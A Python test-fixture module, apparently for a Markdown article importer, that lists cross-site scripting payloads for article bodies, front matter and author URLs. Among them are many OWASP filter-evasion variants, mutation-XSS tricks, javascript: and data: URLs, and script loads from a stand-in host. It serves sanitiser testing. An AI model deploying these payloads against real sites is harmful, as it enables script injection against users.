"""Hostile input: XSS payloads for article bodies and for front matter.

The classics of the OWASP XSS filter-evasion cheat sheet (every spelling of ``<script>``, event
handlers, frames and plug-ins, mutation XSS through MathML and SVG, CSS, ``<meta>`` refreshes,
``<base>``, forms, and ``javascript:`` in every encoding), then what only Markdown can carry:
link and image destinations, reference definitions, titles, autolinks, footnotes, admonition
titles, headings, tables and fence info strings. Every payload would run ``alert(1)`` (or load a
foreign script) if its markup reached a browser unchanged.
"""

import base64
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str  # a short, unique id (the test's id)
    text: str  # Markdown, as an editor or an imported file would give it


def _p(name: str, text: str) -> Payload:
    return Payload(name, text)


SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
SVG_ONLOAD_BASE64 = base64.b64encode(SVG_ONLOAD).decode()
HTML_SCRIPT_BASE64 = base64.b64encode(b"<script>alert(1)</script>").decode()
_JAVASCRIPT_DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:")
_JAVASCRIPT_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:")
_JAVASCRIPT_HEX = "".join(f"&#x{ord(c):x}" for c in "javascript:")

# Raw HTML from the OWASP filter-evasion cheat sheet and its mutation-XSS successors.
HTML_PAYLOADS = [
    _p("script", "<script>alert(1)</script>"),
    _p("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    _p("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    _p("script-spaces", "<script >alert(1)</script >"),
    _p("script-newline", "<script\n>alert(1)</script\n>"),
    _p("script-tab-attr", '<script\ttype="text/javascript">alert(1)</script>'),
    _p("script-slash-attr", '<script/xss src="https://evil.example/x.js"></script>'),
    _p("script-unclosed-src", "<script src=//evil.example/x.js>"),
    _p("script-double-open", "<<script>alert(1);//<</script>"),
    _p("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _p("script-in-paragraph", "Tekst <script>alert(1)</script> en meer tekst."),
    _p("img-onerror", "<img src=x onerror=alert(1)>"),
    _p("img-onerror-upper", '<IMG SRC=x ONERROR="alert(1)">'),
    _p("img-onerror-entities", "<img src=x onerror=alert&#40;1&#41;>"),
    _p("img-slashes", "<img/src=x/onerror=alert(1)>"),
    _p("img-quote-break", '<img """><script>alert(1)</script>">'),
    _p("img-javascript-src", '<img src="javascript:alert(1)">'),
    _p("img-backtick-src", "<img src=`javascript:alert(1)`>"),
    _p("img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    _p("img-srcset", '<img src="a.png" srcset="javascript:alert(1) 1x, b.png 2x">'),
    _p("svg-onload", "<svg onload=alert(1)>"),
    _p("svg-slash-onload", "<svg/onload=alert(1)>"),
    _p("svg-script", "<svg><script>alert(1)</script></svg>"),
    _p("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>'),
    _p("svg-animate", '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>'),
    _p("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"/>x</a></svg>'),
    _p("body-onload", "<body onload=alert(1)>"),
    _p("frameset-onload", "<frameset onload=alert(1)>"),
    _p("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    _p("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    _p("iframe-data", f'<iframe src="data:text/html;base64,{HTML_SCRIPT_BASE64}"></iframe>'),
    _p("object-javascript", '<object data="javascript:alert(1)"></object>'),
    _p("object-data", f'<object data="data:text/html;base64,{HTML_SCRIPT_BASE64}"></object>'),
    _p("embed-javascript", '<embed src="javascript:alert(1)">'),
    _p("embed-svg", f'<embed src="data:image/svg+xml;base64,{SVG_ONLOAD_BASE64}">'),
    _p("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    _p(
        "math-mglyph-svg",
        '<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=alert(1)>">',
    ),
    _p("math-href", '<math href="javascript:alert(1)">klik</math>'),
    _p("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    _p("xmp-title", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    _p("template-style", "<select><template><style><img src=x onerror=alert(1)></style>"),
    _p("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    _p("cdata", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    _p("style-import", "<style>@import 'javascript:alert(1)';</style>"),
    _p("style-import-url", "<style>@import url(https://evil.example/x.css);</style>"),
    _p("style-attr-url", '<div style="background:url(javascript:alert(1))">x</div>'),
    _p("style-attr-expression", '<div style="width: expression(alert(1))">x</div>'),
    _p(
        "td-style-expression",
        '<table><tr><td style="text-align: expression(alert(1))">x</td></tr></table>',
    ),
    _p(
        "th-style-url",
        '<table><tr><th style="text-align:left;background:url(javascript:alert(1))">x</th>'
        "</tr></table>",
    ),
    _p("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    _p(
        "meta-refresh-data",
        f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{HTML_SCRIPT_BASE64}">',
    ),
    _p("base-javascript", '<base href="javascript:alert(1)//">'),
    _p("base-foreign", '<base href="https://evil.example/">'),
    _p("form-action", '<form action="javascript:alert(1)"><button>Verstuur</button></form>'),
    _p("button-formaction", '<form><button formaction="javascript:alert(1)">x</button></form>'),
    _p("isindex", "<isindex action=javascript:alert(1) type=image>"),
    _p("input-autofocus", "<input onfocus=alert(1) autofocus>"),
    _p("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    _p("video-poster", '<video poster="javascript:alert(1)" src=x onerror=alert(1)></video>'),
    _p("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    _p("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    _p("button-onclick", "<button onclick=alert(1)>klik</button>"),
    _p("area-href", '<map name=m><area href="javascript:alert(1)" shape=rect></map>'),
    _p("a-javascript", '<a href="javascript:alert(1)">klik</a>'),
    _p("a-javascript-case", '<a href="JaVaScRiPt:alert(1)">klik</a>'),
    _p("a-unquoted", "<a href=javascript:alert(1)>klik</a>"),
    _p("a-leading-space", '<a href="  javascript:alert(1)">klik</a>'),
    _p("a-tab-entity", '<a href="jav&#x09;ascript:alert(1)">klik</a>'),
    _p("a-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">klik</a>'),
    _p("a-tab-literal", '<a href="jav\tascript:alert(1)">klik</a>'),
    _p("a-newline-literal", '<a href="java\nscript:alert(1)">klik</a>'),
    _p("a-control-prefix", '<a href=" &#14;  javascript:alert(1)">klik</a>'),
    _p("a-null", '<a href="java\0script:alert(1)">klik</a>'),
    _p("a-hex-entity", '<a href="&#x6A;avascript:alert(1)">klik</a>'),
    _p("a-decimal-entities", f'<a href="{_JAVASCRIPT_DECIMAL}alert(1)">klik</a>'),
    _p("a-padded-entities", f'<a href="{_JAVASCRIPT_PADDED}alert(1)">klik</a>'),
    _p("a-hex-no-semicolons", f'<a href="{_JAVASCRIPT_HEX}alert(1)">klik</a>'),
    _p("a-colon-entity", '<a href="javascript&colon;alert(1)">klik</a>'),
    _p("a-unicode-escape", '<a href="\\u006Aavascript:alert(1)">klik</a>'),
    _p("a-fullwidth", '<a href="\uff4aavascript:alert(1)">klik</a>'),
    _p("a-vbscript", '<a href="vbscript:msgbox(1)">klik</a>'),
    _p("a-data-html", f'<a href="data:text/html;base64,{HTML_SCRIPT_BASE64}">klik</a>'),
    _p("a-onmouseover", '<a href="https://x.example/" onmouseover="alert(1)">klik</a>'),
    _p("a-title-backtick", "<a href=x title='`' onmouseover=alert(1)//'>klik</a>"),
    _p("a-title-quote-break", '<a href="x" title=""onmouseover="alert(1)">klik</a>'),
    _p("div-quote-break", '<div title="x" "onmouseover=alert(1)">x</div>'),
    _p(
        "span-inline",
        'Tekst <span onmouseover="alert(1)">hier</span> en <b onclick=alert(1)>vet</b>.',
    ),
    _p("html-block-script", "<div>\n<script>alert(1)</script>\n</div>"),
    _p(
        "html-block-markdown",
        '<div onclick="alert(1)">\n\n*nadruk* [x](javascript:alert(1))\n\n</div>',
    ),
    _p("template-script", "<template><script>alert(1)</script></template>"),
    _p("textarea-script", "<textarea><script>alert(1)</script></textarea>"),
    _p(
        "style-hidden-link",
        '<a href="https://x.example/" style="position:fixed;inset:0" onclick="alert(1)">x</a>',
    ),
]

# What only Markdown carries: destinations, definitions, titles, autolinks and the extensions.
MARKDOWN_PAYLOADS = [
    _p("md-link", "[klik](javascript:alert(1))"),
    _p("md-link-upper", "[klik](JAVASCRIPT:alert(1))"),
    _p("md-link-mixed-case", "[klik](JaVaScRiPt:alert(1))"),
    _p("md-link-hex-entity", "[klik](&#x6A;avascript:alert(1))"),
    _p("md-link-decimal-entities", f"[klik]({_JAVASCRIPT_DECIMAL}alert(1))"),
    _p("md-link-colon-entity", "[klik](javascript&colon;alert(1))"),
    _p("md-link-colon-decimal", "[klik](javascript&#58;alert(1))"),
    _p("md-link-tab-entity", "[klik](java&#9;script:alert(1))"),
    _p("md-link-percent", "[klik](%6A%61vascript:alert(1))"),
    _p("md-link-percent-newline", "[klik](java%0Ascript:alert(1))"),
    _p("md-link-leading-spaces", "[klik](   javascript:alert(1))"),
    _p("md-link-pointy", "[klik](<javascript:alert(1)>)"),
    _p("md-link-pointy-space", "[klik](< javascript:alert(1)>)"),
    _p("md-link-null", "[klik](java\0script:alert(1))"),
    _p("md-link-backslash", "[klik](javascript\\:alert(1))"),
    _p("md-link-vbscript", "[klik](vbscript:msgbox(1))"),
    _p("md-link-data", f"[klik](data:text/html;base64,{HTML_SCRIPT_BASE64})"),
    _p("md-link-nested-image", "[![x](javascript:alert(1))](javascript:alert(1))"),
    _p("md-image", "![x](javascript:alert(1))"),
    _p("md-image-svg", f"![x](data:image/svg+xml;base64,{SVG_ONLOAD_BASE64})"),
    _p("md-image-svg-plain", "![x](data:image/svg+xml,<svg/onload=alert(1)>)"),
    _p("md-image-data-html", f"![x](data:text/html;base64,{HTML_SCRIPT_BASE64})"),
    _p("md-image-alt-break", '![x" onerror="alert(1)](x.png)'),
    _p("md-image-title-break", '![x](x.png "\\" onerror=\\"alert(1)")'),
    _p("md-reference", "[klik][a]\n\n[a]: javascript:alert(1)"),
    _p("md-reference-pointy", "[a]\n\n[a]: <javascript:alert(1)>"),
    _p("md-reference-entity", '[a]\n\n[a]: &#x6A;avascript:alert(1) "titel"'),
    _p("md-reference-image", "![a]\n\n[a]: javascript:alert(1)"),
    _p("md-reference-title-break", "[a]\n\n[a]: https://x.example/ '\" onmouseover=\"alert(1)'"),
    _p("md-title-double-quote", '[a](https://x.example/ "\\" onmouseover=alert(1) x=\\"")'),
    _p("md-title-single-quote", "[a](https://x.example/ 'x\\' onmouseover=alert(1)')"),
    _p("md-title-parentheses", '[a](https://x.example/ (x" onmouseover="alert(1)))'),
    _p("md-text-html", "[<img src=x onerror=alert(1)>](https://x.example/)"),
    _p("md-autolink", "<javascript:alert(1)>"),
    _p("md-autolink-upper", "<JAVASCRIPT:alert(1)>"),
    _p("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    _p("md-autolink-data", f"<data:text/html;base64,{HTML_SCRIPT_BASE64}>"),
    _p("md-autolink-quote", '<https://x.example/"onmouseover="alert(1)>'),
    _p("md-bare-url-quote", 'Zie https://x.example/"><script>alert(1)</script> hier.'),
    _p("md-bare-www-quote", 'Zie www.x.example/"onmouseover="alert(1) hier.'),
    _p("md-emphasis-html", "*<img src=x onerror=alert(1)>* en **<svg onload=alert(1)>**"),
    _p("md-escaped-html", "\\<script>alert(1)\\</script> en &lt;script&gt;alert(1)&lt;/script&gt;"),
    _p("md-code-span", "`<script>alert(1)</script>` en ``<img src=x onerror=alert(1)>``"),
    _p("fence-info", '```"><script>alert(1)</script>\ncode\n```'),
    _p("fence-info-attr", "```python onmouseover=alert(1)\nprint(1)\n```"),
    _p("fence-body", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"),
    _p("fence-unknown-language", '```x" onload="alert(1)\n<b>x</b>\n```'),
    _p("indented-code", "    <script>alert(1)</script>"),
    _p("heading-script", "# <script>alert(1)</script>"),
    _p("heading-img", "## <img src=x onerror=alert(1)> kop\n\n## Tweede kop"),
    _p("heading-toc-break", "## \"><svg onload=alert(1)>\n\n### '><img src=x onerror=alert(1)>"),
    _p("heading-setext", "<iframe src=javascript:alert(1)>\n===="),
    _p("heading-link", "## [kop](javascript:alert(1))\n\n## Nog een kop"),
    _p(
        "table-cells",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    ),
    _p("table-header", "| <script>alert(1)</script> | b |\n|:--|--:|\n| 1 | 2 |"),
    _p("footnote-html", "Tekst.[^1]\n\n[^1]: <img src=x onerror=alert(1)>"),
    _p(
        "footnote-link",
        "Tekst.[^1]\n\n[^1]: Zie [hier](javascript:alert(1)) en <script>alert(1)</script>.",
    ),
    _p("footnote-source", "Tekst.[^bron]\n\n[^bron]: **Uitgever** - [Titel](javascript:alert(1))"),
    _p(
        "footnote-source-html",
        'Tekst.[^b]\n\n[^b]: **<img src=x onerror=alert(1)>** - [<svg onload=alert(1)>](https://x.example/"onmouseover=alert(1))',
    ),
    _p(
        "footnote-label",
        'Tekst.[^"><img/src=x/onerror=alert(1)>]\n\n[^"><img/src=x/onerror=alert(1)>]: noot',
    ),
    _p("footnote-notes-heading", "Tekst.[^1]\n\n## <img src=x onerror=alert(1)>\n\n[^1]: noot"),
    _p("admonition-title-bracket", ":::warning[<img src=x onerror=alert(1)>]\nTekst.\n:::"),
    _p("admonition-title-space", ":::note <script>alert(1)</script>\nTekst.\n:::"),
    _p("admonition-title-quote", ':::tip[" onmouseover="alert(1)]\nTekst.\n:::'),
    _p("admonition-title-link", ":::danger[[klik](javascript:alert(1))]\nTekst.\n:::"),
    _p(
        "admonition-body",
        ":::info\n<iframe src=javascript:alert(1)></iframe>\n\n[x](javascript:alert(1))\n:::",
    ),
    _p(
        "truncate-summary",
        "<script>alert(1)</script><img src=x onerror=alert(1)>\n\n<!--truncate-->\n\nMeer.",
    ),
    _p(
        "list-item",
        "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))\n1. <svg onload=alert(1)>",
    ),
    _p("blockquote", "> <script>alert(1)</script>\n> [x](javascript:alert(1))"),
]

BODY_PAYLOADS = HTML_PAYLOADS + MARKDOWN_PAYLOADS

# One-line values for the importer's front matter: title, description, keywords, tags, authors,
# series. Each must come out as text: escaped in HTML, in attributes, in JSON-LD and in feeds.
FRONT_MATTER_PAYLOADS = [
    _p("fm-script", "<script>alert(1)</script>"),
    _p("fm-attribute-break", '"><script>alert(1)</script>'),
    _p("fm-single-quote-break", "'><img src=x onerror=alert(1)>"),
    _p("fm-title-close", "</title><script>alert(1)</script>"),
    _p("fm-script-close", "</script><script>alert(1)</script>"),
    _p("fm-script-close-upper", "</SCRIPT ><svg onload=alert(1)>"),
    _p("fm-comment-open", "<!--<script>alert(1)</script>-->"),
    _p("fm-onmouseover", '" onmouseover="alert(1)'),
    _p("fm-autofocus", "' autofocus onfocus='alert(1)"),
    _p(
        "fm-entities",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;",
    ),
    _p("fm-line-separators", "A\u2028B\u2029C </script>"),
    _p("fm-textarea-close", "</textarea><script>alert(1)</script>"),
    _p("fm-javascript-text", "javascript:alert(1)"),
    _p("fm-template", "{{ 7|add:7 }} {% now 'Y' %}"),
    # YAML escapes let control characters in that XML (the feeds) cannot hold.
    _p("fm-control-characters", "Titel\x01 met \x08 stuur\x1b[31m tekens <b>x</b>"),
]

# Author addresses the importer must refuse: only http(s) addresses are links.
HOSTILE_AUTHOR_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    f"data:text/html;base64,{HTML_SCRIPT_BASE64}",
]
# An http(s) address that is valid but tries to break out of the attribute it is put in.
QUOTE_BREAKING_URL = 'https://x.example/"onmouseover="alert(1)'


ALL_PAYLOADS = BODY_PAYLOADS + FRONT_MATTER_PAYLOADS
assert len({payload.name for payload in ALL_PAYLOADS}) == len(ALL_PAYLOADS), "duplicate names"
